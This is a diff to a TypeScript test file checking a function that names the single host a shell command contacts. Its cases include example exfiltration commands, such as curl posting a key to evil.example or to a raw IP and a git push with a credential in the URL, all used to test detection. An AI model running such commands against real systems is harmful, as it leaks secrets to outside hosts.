@@ -9,6 +9,8 @@ test.each<readonly [readonly string[], string | null]>([
   [["git", "push", "https://key@github.com/a", "https://evil.example/b"], null],
   [["curl", "-d", "key", "evil.example", "-e", "https://github.com"], null],
   [["curl", "-d", "key", "10.0.0.1:8080", "-e", "https://github.com"], null],
+  [["git", "clone", "https://key@github.com/acme/site.git", "notes.txt"], "github.com"],
+  [["curl", "-d", "key", "notes.txt.evil.example", "-e", "https://github.com"], null],
   [["gh", "auth", "login"], null],
 ])("the only host in %j is %s", (words, host) => {
   expect(nameHost(words)).toBe(host);
